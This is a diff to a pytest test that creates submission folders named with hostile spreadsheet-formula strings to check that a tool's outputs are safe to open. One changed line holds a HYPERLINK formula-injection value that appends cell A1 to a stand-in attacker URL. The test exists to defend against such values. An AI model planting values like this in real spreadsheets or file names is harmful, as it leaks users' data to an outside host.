@@ -201,7 +201,7 @@ def test_the_pytest_plugin_s_failure_text_holds_no_workflow_command(tmp_path: Pa
 @pytest.mark.slow
 def test_a_class_with_hostile_names_gets_outputs_safe_to_open(tmp_path: Path) -> None:
     subs = tmp_path / "subs"
-    names = ['=HYPERLINK("http://evil.example","x")', "+SUM(1)", "@x", "-2+3", "https:evil.example`x`"]
+    names = ['=HYPERLINK("https:evil.example?"&A1,"x")', "+SUM(1)", "@x", "-2+3", "https:evil.example`x`"]
     for name in names:
         (subs / name / "autodiff").mkdir(parents=True)
         (subs / name / "autodiff" / "neg.py").write_text((SOLUTIONS / "autodiff" / "neg.py").read_text())
